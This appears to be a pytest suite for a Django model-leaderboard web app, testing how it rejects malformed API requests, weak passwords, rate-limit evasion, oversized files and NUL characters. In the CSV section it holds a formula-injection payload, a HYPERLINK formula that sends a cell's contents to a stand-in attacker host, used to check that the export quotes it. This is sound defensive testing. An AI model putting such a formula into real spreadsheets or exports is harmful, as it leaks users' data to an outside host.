"""The catalog of bad input and abuse (issue 12), through the public interface: each malformed
request is a 4xx whose JSON error names the problem and leaves the database as it was; sign-ups
follow the password rules and a per-address limit; API writes are limited per address; CSV
cells cannot run as formulas; an oversized checkpoint file is refused by name."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from django.apps import apps
from django.contrib.auth.models import User
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from tests.checkpoints import fake_checkpoint
from tests.hub_fakes import cache_model
from webapp.accounts.models import ApiToken
from webapp.evaluations.models import PassAtK, Run

pytestmark = pytest.mark.django_db
PUBLIC = [(2, 1, 6, "", ("93.184.215.14", 443))]  # the webhook host's lookup: no DNS here


@pytest.fixture(autouse=True)
def no_broker():  # type: ignore[no-untyped-def]
    with mock.patch("webapp.jobs.publish"):
        yield


def row_counts() -> dict[str, int]:
    """Rows in every table a request could add to: users and tokens included."""
    ours = ("submissions", "evaluations", "api", "accounts", "auth")
    return {m._meta.label: m.objects.count() for m in apps.get_models()
            if m._meta.app_label in ours}  # fmt: skip


def researcher_token(name: str = "ada") -> str:
    return ApiToken.issue(User.objects.create_user(name, password="a-long-password-1"), "ci")[1]


def post_raw(token: str, body: bytes, content_type: str = "application/json", **extra: Any):  # type: ignore[no-untyped-def]
    return Client().post("/api/submissions/", body, content_type=content_type,
                         HTTP_AUTHORIZATION=f"Bearer {token}", **extra)  # fmt: skip


def as_json(body: dict[str, Any]) -> bytes:
    return json.dumps({"source": "lab/model", "suite": "smoke"} | body).encode()


BAD_BODIES: list[tuple[str, bytes, int, str]] = [
    ("invalid UTF-8", b'{"source": "lab/\xff\xfe"}', 400, "not valid UTF-8"),
    ("deeply nested JSON", b"[" * 50_000 + b"]" * 50_000, 413, "larger than"),
    ("nested past the parser", b'{"name": ' + b"[" * 5_000 + b"]" * 5_000 + b"}", 400,
     "nested too deeply"),
    ("webhook URL urlsplit refuses", as_json({"webhook_url": "http://[::1/"}), 400,
     "webhook_url is not a valid URL"),
    ("webhook URL with a control character", as_json({"webhook_url": "https://a.org/\x00"}),
     400, "control characters"),
    ("webhook URL not a string", as_json({"webhook_url": ["https://a.org/"]}), 400,
     "webhook_url must be a string, not a array"),
    ("a JSON string", b'"lab/model"', 400, "not a string"),
    ("JSON null", b"null", 400, "not a null"),
    ("a JSON array", b'[{"source": "lab/model"}]', 400, "not a array"),
    ("source a number", as_json({"source": 7}), 400, "source must be a string, not a number"),
    ("name an object", as_json({"name": {"$gt": ""}}), 400, "name must be a string"),
    ("label a number", as_json({"label": 12}), 400, "label must be a string, not a number"),
    ("suite a boolean", as_json({"suite": True}), 400, "suite must be a string"),
    ("an unknown field", as_json({"trust_remote_code": "yes"}), 400,
     "unknown field 'trust_remote_code'"),
    ("a NUL in the source", as_json({"source": "lab/mo\x00del"}), 400, "Null characters"),
    ("a huge integer", b'{"source": ' + b"9" * 5_000 + b"}", 400, "must be a JSON object"),
    ("a body over the cap", as_json({"name": "x" * 70_000}), 413, "larger than 65,536 bytes"),
    ("multipart form data", b"--x\r\n\r\nsource=lab/model\r\n--x--", 400,
     "multipart/form-data"),
]  # fmt: skip


@pytest.mark.parametrize(("case", "body", "status", "message"), BAD_BODIES,
                         ids=[c[0] for c in BAD_BODIES])  # fmt: skip
def test_each_malformed_api_request_is_a_4xx_naming_the_problem_and_changes_nothing(
    case: str, body: bytes, status: int, message: str, hf_cache: Path
) -> None:
    cache_model(hf_cache, "lab/model")
    token = researcher_token()
    before = row_counts()
    content_type = "multipart/form-data; boundary=x" if "multipart" in case else "application/json"
    with mock.patch("socket.getaddrinfo", return_value=PUBLIC):
        response = post_raw(token, body, content_type)
    assert response.status_code == status, response.content[:300]
    assert message in response.json()["error"], response.json()
    assert row_counts() == before


def test_a_bad_content_length_is_a_400(hf_cache: Path) -> None:
    token = researcher_token()
    response = post_raw(token, as_json({}), CONTENT_LENGTH="lots")
    assert response.status_code == 400 and "Content-Length" in response.json()["error"]


def test_curl_style_form_encoded_json_is_still_read_as_json(hf_cache: Path) -> None:
    """``curl -d`` (the documented example) sends application/x-www-form-urlencoded."""
    cache_model(hf_cache, "lab/model")
    response = post_raw(researcher_token(), as_json({}), "application/x-www-form-urlencoded")
    assert response.status_code == 201, response.json()


def test_a_null_field_means_not_given(hf_cache: Path) -> None:
    cache_model(hf_cache, "lab/model")
    response = post_raw(researcher_token(), as_json({"webhook_url": None, "name": None}))
    assert response.status_code == 201 and "webhook" not in response.json()


# --- sign-up: password rules, per-address limit ------------------------------------------


def sign_up(client: Client, name: str, password: str = "a-long-password-1", **extra: str):  # type: ignore[no-untyped-def]
    fields = {"username": name, "password1": password, "password2": password}
    return client.post("/accounts/signup/", fields, **extra)


@pytest.mark.parametrize(("name", "password", "message"), [
    ("alice", "alice", "too short"),
    ("alexander", "alexander1", "too similar to the username"),
    ("bob", "password123", "too common"),
    ("carol", "83920174652", "entirely numeric"),
])  # fmt: skip
def test_sign_up_refuses_a_weak_password_by_the_rule_it_breaks(
    name: str, password: str, message: str
) -> None:
    response = sign_up(Client(), name, password)
    assert response.status_code == 200 and message in response.content.decode()
    assert not User.objects.exists()


def test_sign_ups_are_limited_per_address_and_a_forged_forwarded_header_does_not_help(
    settings,  # type: ignore[no-untyped-def]
) -> None:
    settings.POLYEVAL_SIGNUPS_PER_HOUR = 3
    codes = [sign_up(Client(), f"user{i}", HTTP_X_FORWARDED_FOR=f"198.51.100.{i}").status_code
             for i in range(5)]  # fmt: skip
    assert codes == [302, 302, 302, 429, 429]
    assert User.objects.count() == 3
    refused = sign_up(Client(), "late")
    assert "accounts created from your address this hour (at most 3)" in refused.content.decode()


def test_behind_a_trusted_proxy_each_forwarded_client_has_its_own_sign_up_limit(
    settings,  # type: ignore[no-untyped-def]
) -> None:
    import ipaddress

    settings.POLYEVAL_SIGNUPS_PER_HOUR = 1
    settings.POLYEVAL_TRUSTED_PROXIES = [ipaddress.ip_network("10.0.0.0/8")]
    proxied = {"REMOTE_ADDR": "10.0.0.2"}
    # The client appends its own forgery in front; the proxy adds the address it saw.
    first = sign_up(Client(), "a", HTTP_X_FORWARDED_FOR="1.2.3.4, 203.0.113.7", **proxied)
    again = sign_up(Client(), "b", HTTP_X_FORWARDED_FOR="5.6.7.8, 203.0.113.7", **proxied)
    other = sign_up(Client(), "c", HTTP_X_FORWARDED_FOR="203.0.113.8", **proxied)
    assert [first.status_code, again.status_code, other.status_code] == [302, 429, 302]


def test_sign_up_limit_defaults_to_ten_an_hour() -> None:
    from django.conf import settings

    assert settings.POLYEVAL_SIGNUPS_PER_HOUR == 10 and settings.POLYEVAL_TRUSTED_PROXIES == []


def test_api_writes_are_limited_per_address_across_accounts_but_not_for_staff(
    settings,  # type: ignore[no-untyped-def]
    hf_cache: Path,
) -> None:
    settings.POLYEVAL_API_WRITES_PER_HOUR = 2
    cache_model(hf_cache, "lab/model")
    tokens = [researcher_token(f"user{i}") for i in range(3)]
    codes = [post_raw(t, as_json({})).status_code for t in tokens]
    assert codes == [201, 200, 429]
    assert "API writes from your address" in post_raw(tokens[0], as_json({})).json()["error"]
    staff = User.objects.create_user("admin", password="a-long-password-1", is_staff=True)
    assert post_raw(ApiToken.issue(staff, "ci")[1], as_json({})).status_code == 200


# --- CSV formula injection ----------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def test_a_formula_model_name_is_quoted_in_the_leaderboard_csv(tmp_path: Path) -> None:
    # A model's name is set by an operator or an admin (an API "name" is only a label).
    call_command("submit", str(fake_checkpoint(tmp_path / "m")), "--suite", "smoke",
                 "--name", FORMULA, "--revision", "-1")  # fmt: skip
    run = Run.objects.get()
    Run.objects.filter(pk=run.pk).update(status=Run.Status.SUCCEEDED, finished_at=timezone.now())
    PassAtK.objects.create(run=run, temperature=0.8, k=1, value=0.25, ci_low=-0.5, ci_high=0.5)
    text = Client().get("/leaderboard.csv?suite=smoke").content.decode()
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["model"] == "'" + FORMULA + "@-1" and row["commit"] == "'-1"  # name@revision
    assert row["pass@1_ci_low"] == "-0.5"  # a number is written as a number


# --- checkpoint files over the size caps --------------------------------------------------


def _sparse(path: Path, size: int) -> None:
    """A file of ``size`` bytes that takes no disk (its size is all the check reads)."""
    with path.open("r+b" if path.exists() else "wb") as fh:
        os.truncate(fh.fileno(), size)


@pytest.mark.parametrize(("file", "size", "message"), [
    ("config.json", 60 << 20, "config.json is 62,914,560 bytes, over this site's cap"),
    ("tokenizer.json", 65 << 20, "tokenizer.json is 68,157,440 bytes"),
    ("tokenizer_config.json", 2 << 20, "tokenizer_config.json is 2,097,152 bytes"),
])  # fmt: skip
def test_an_oversized_checkpoint_file_is_refused_by_name_at_submission(
    file: str, size: int, message: str, tmp_path: Path
) -> None:
    staff = User.objects.create_user("admin", password="a-long-password-1", is_staff=True)
    token = ApiToken.issue(staff, "ci")[1]
    folder = fake_checkpoint(tmp_path / "m")
    _sparse(folder / file, size)
    before = row_counts()
    response = post_raw(token, json.dumps({"source": str(folder), "suite": "smoke"}).encode())
    assert response.status_code == 400 and message in response.json()["error"]
    assert row_counts() == before


# --- NUL characters, which PostgreSQL refuses in text (a 500 there, found by fuzzing) --------


@pytest.mark.parametrize("url", ["/?suite=%00", "/leaderboard.csv?suite=%00",
                                 "/api/leaderboard/?suite=%00"])  # fmt: skip
def test_a_nul_in_a_suite_name_is_an_unknown_suite(url: str) -> None:
    response = Client().get(url)
    assert response.status_code == 404 and b"NUL" in response.content


def test_a_nul_in_a_token_name_is_dropped_not_stored() -> None:
    client = Client()
    client.force_login(User.objects.create_user("ada", password="a-long-password-1"))
    assert client.post("/accounts/tokens/", {"name": "ci\x00"}).status_code == 200
    assert ApiToken.objects.get().name == "ci"
